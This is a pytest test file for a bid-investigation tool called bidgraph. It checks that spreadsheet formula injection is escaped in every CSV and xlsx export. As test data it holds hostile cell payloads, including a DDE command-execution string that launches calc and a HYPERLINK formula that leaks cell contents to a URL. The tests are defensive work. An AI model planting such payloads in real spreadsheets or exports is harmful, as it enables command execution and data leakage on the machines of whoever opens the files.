"""Formula injection: text a spreadsheet would run (= + - @ tab CR) is escaped in every CSV and
xlsx bidgraph writes — the case package's tables.xlsx (incl. 状态时间线) and ANB CSVs, the
研判/审计/导入 downloads, load error CSVs and ``bidgraph detect --format csv``."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from bidgraph.analysis.findings import Finding, entities_of, sources_of
from bidgraph.cases import CaseStore
from bidgraph.cases.export import export_case
from bidgraph.cli import detect as detect_cli
from bidgraph.errors import DataError
from bidgraph.graph.model import Node, Relationship, Subgraph
from bidgraph.loaders.report import LoadReport
from bidgraph.services.common import to_csv, to_xlsx
from bidgraph.settings import Settings
from bidgraph.spreadsheet import FORMULA_LEADS, safe_cell
from bidgraph.viewer import Role, Viewer

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x"&A1,"y")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


def _finding() -> Finding:
    nodes = [Node(str(i), ("Company",), {"key": f"9133{i:014d}", "name": p}) for i, p in enumerate(PAYLOADS)]
    rels = [Relationship("r1", "SHARES_PHONE", "0", "1", {})]
    evidence = Subgraph({n.id: n for n in nodes}, {r.id: r for r in rels})
    return Finding(
        detector="cross_appointment",
        title=PAYLOADS[1],
        legal_ground="《招标投标法实施条例》第34条",
        score=50.0,
        entities=entities_of(nodes),
        tender_codes=(),
        figures={"共同投标次数": 3},
        evidence=evidence,
        sources=sources_of(evidence),
        query_id="cross_appointment",
        params={},
        summary=PAYLOADS[0],
    )


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> zipfile.ZipFile:
    store = CaseStore(Settings(data_dir=tmp_path_factory.mktemp("formula")))
    case_id = store.create(PAYLOADS[0], PAYLOADS[1], actor="调查员甲")
    store.add_evidence(case_id, _finding(), actor="调查员甲")
    for status, comment in zip(("移交", "核查", "处理", "反馈"), PAYLOADS, strict=False):
        store.transition(case_id, status, actor="调查员甲", comment=comment, receiving_body="市纪委监委")
    viewer = Viewer("调查员甲", Role.INVESTIGATOR)
    result = export_case(store, case_id, recipient_name="内部", viewer=viewer, out_dir=store.data_dir)
    return zipfile.ZipFile(result.path)


def _assert_neutral(cells: list[object], expected: tuple[str, ...] = PAYLOADS) -> None:
    """No text cell starts a formula, every payload is there (escaped), numbers stay numbers."""
    texts = [c for c in cells if isinstance(c, str)]
    assert not [t for t in texts if t.startswith(FORMULA_LEADS)]
    same = {t.replace("\r", "\n") for t in texts}  # xlsx stores a CR as a line break
    missing = [p for p in expected if "'" + p.replace("\r", "\n") not in same]
    assert not missing, missing


def _csv_cells(data: bytes) -> list[object]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    return [c.value for c in cells]


def test_safe_cell_escapes_text_only() -> None:
    assert [safe_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert safe_cell(-1) == -1 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell("杭州甲建设有限公司") == "杭州甲建设有限公司" and safe_cell("a=b") == "a=b"


def test_case_tables_xlsx_and_its_timeline(package: zipfile.ZipFile) -> None:
    data = package.read("tables.xlsx")
    _assert_neutral(_xlsx_cells(data))
    timeline = [c.value for row in load_workbook(io.BytesIO(data))["状态时间线"].iter_rows() for c in row]
    _assert_neutral(timeline, PAYLOADS[:4])  # the four transition comments
    assert 1 in timeline  # 序号 stays numeric


def test_case_anb_csvs(package: zipfile.ZipFile) -> None:
    _assert_neutral(_csv_cells(package.read("anb/entities.csv")))
    _assert_neutral(_csv_cells(package.read("anb/links.csv")), ())


def _frame() -> pd.DataFrame:
    inside = "甲公司\r=1+1"  # a CR inside a cell must not start a new row
    return pd.DataFrame({PAYLOADS[4]: [*PAYLOADS, inside], "分值": range(len(PAYLOADS) + 1)})


def test_page_downloads_csv_and_xlsx() -> None:
    _assert_neutral(_csv_cells(to_csv(_frame())))
    cells = _xlsx_cells(to_xlsx(_frame()))
    _assert_neutral(cells)
    assert 6 in cells  # a numeric column stays numeric


def test_load_error_csv_file_and_download(tmp_path: Path) -> None:
    report = LoadReport("load-1")
    for p in PAYLOADS:
        report.add_error(DataError("公司名称格式不正确", file=p, row=2, column=p, value=p))
    path = report.write_errors_csv(tmp_path / "errors.csv")
    _assert_neutral(_csv_cells(path.read_bytes()))
    _assert_neutral(_csv_cells(to_csv(report.errors_dataframe())))


def test_cli_detect_csv(capsys: pytest.CaptureFixture[str]) -> None:
    detect_cli._print_findings([_finding()], "csv")
    cells = _csv_cells(capsys.readouterr().out.encode("utf-8"))
    _assert_neutral(cells, PAYLOADS[:1])  # the summary column
